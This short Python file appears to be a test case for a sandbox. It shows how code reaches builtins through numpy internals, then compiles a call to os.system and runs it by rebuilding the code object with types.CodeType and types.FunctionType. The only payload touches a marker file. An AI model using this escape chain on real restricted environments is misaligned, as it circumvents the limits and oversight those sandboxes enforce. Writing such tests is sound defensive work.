# attempts: types.CodeType(...) built field by field from a compile()d code object, run through types.FunctionType
# effect: exec
# step: build a code object
B = np.random.bit_generator.re.enum.bltns
imp = B.getattr(B, '__import__')
types = imp('types')
c = B.compile("__import__('os').system('touch @@MARKER_DIR@@/codetype')", '<hostile>', 'eval')
fields = ['co_argcount', 'co_posonlyargcount', 'co_kwonlyargcount', 'co_nlocals', 'co_stacksize', 'co_flags',
          'co_code', 'co_consts', 'co_names', 'co_varnames', 'co_filename', 'co_name', 'co_qualname',
          'co_firstlineno', 'co_linetable', 'co_exceptiontable', 'co_freevars', 'co_cellvars']   # CPython 3.11+
args = [B.getattr(c, f) for f in fields if B.hasattr(c, f)]
c2 = types.CodeType(*args) if B.len(args) == B.len(fields) else c.replace(co_name='harmless')
fn = types.FunctionType(c2, {'__builtins__': B})
fn()
